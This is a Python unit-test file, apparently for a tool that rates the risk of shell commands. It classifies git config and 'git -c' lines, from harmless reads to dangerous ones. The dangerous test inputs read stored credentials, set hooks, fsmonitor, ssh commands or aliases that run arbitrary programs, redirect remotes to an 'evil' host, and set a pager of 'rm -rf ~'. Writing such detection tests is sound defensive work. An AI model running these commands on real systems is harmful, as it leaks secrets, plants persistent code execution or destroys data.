"""Git's settings: for one command, for a repository, for all of them."""

import pytest

from assent.protocol.decision import Risk
from tests.unit.policy.risks import risk


@pytest.mark.parametrize(
    "line",
    [
        "git config --get user.name",
        "git config remote.origin.url",
        "git config --list --show-origin",
        "git config get core.editor",
        "git config -f .gitmodules --get submodule.lib.url",
    ],
)
def test_git_config_that_reads_is_look(line: str) -> None:
    """Settings may be looked at."""
    assert risk(line) == Risk.LOOK


@pytest.mark.parametrize(
    "line",
    [
        "git config --get credential.https://example.org.password",
        "git config github.token",
        "git config --get-regexp 'token|pass'",
        "git config http.extraHeader",
        "git credential fill",
        "git credential-store get",
    ],
)
def test_git_config_that_shows_secrets_is_danger(line: str) -> None:
    """Passwords stand among the settings, too."""
    assert risk(line) == Risk.DANGER


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("git config user.name Me", Risk.CHANGE),
        ("git config core.autocrlf input", Risk.CHANGE),
        ("git config --local pull.rebase true", Risk.CHANGE),
        ("git config core.pager 'less -R'", Risk.CHANGE),
        ("git config --global user.name Me", Risk.CARE),
        ("git config alias.st status", Risk.CARE),
        ("git config --unset core.hooksPath", Risk.CARE),
        ("git config no.such.key x", Risk.CARE),
        ("git config --edit", Risk.CARE),
        ("git config --system user.name Me", Risk.DANGER),
        ("git config core.hooksPath .hooks", Risk.DANGER),
        ("git config CORE.HooksPath /tmp/h", Risk.DANGER),
        ("git config --add core.fsmonitor /tmp/x", Risk.DANGER),
        ("git config set core.sshCommand evil", Risk.DANGER),
        ("git config --global alias.st '!evil'", Risk.DANGER),
        ("git config diff.pdf.textconv evil", Risk.DANGER),
        ("git config filter.x.clean evil", Risk.DANGER),
        ("git config include.path ../evil", Risk.DANGER),
        ("git config credential.helper '!evil'", Risk.DANGER),
        ("git config url.https://evil/.insteadOf https://github.com/", Risk.DANGER),
        ("git config remote.origin.pushurl https://evil/x", Risk.DANGER),
        ("git config branch.main.remote https://evil/x", Risk.DANGER),
        ("git config gc.pruneExpire now", Risk.DANGER),
        ("git config --global http.sslVerify false", Risk.DANGER),
    ],
)
def test_git_config_that_writes_is_judged_by_the_setting(line: str, expected: Risk) -> None:
    """A name is harmless; a program that git runs from now on is not."""
    assert risk(line) == expected


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("git -c commit.gpgsign=false log", Risk.LOOK),
        ("git -c core.editor=true log", Risk.LOOK),
        ("git -c credential.helper= log", Risk.LOOK),
        ("git -c core.hooksPath=/dev/null log", Risk.CARE),
        ("git -c http.proxy=http://x log", Risk.CARE),
        ("git -c a.b=c log", Risk.CARE),
        ("git -c core.pager='rm -rf ~' log", Risk.DANGER),
        ("git -c core.fsmonitor=./x status", Risk.DANGER),
        ("git -c core.sshCommand=evil fetch", Risk.DANGER),
        ("git -c diff.external=evil diff", Risk.DANGER),
        ("git -c protocol.ext.allow=always fetch", Risk.DANGER),
        ("git -c remote.origin.url=https://evil/x push", Risk.DANGER),
        ("git -c gc.reflogExpire=now gc", Risk.DANGER),
        ("git --config-env=core.pager=X log", Risk.DANGER),
        ("git clone -c core.fsmonitor=evil https://example.org/x", Risk.DANGER),
    ],
)
def test_git_settings_for_one_command_are_judged(line: str, expected: Risk) -> None:
    """What holds for one command can still run anything."""
    assert risk(line) == expected
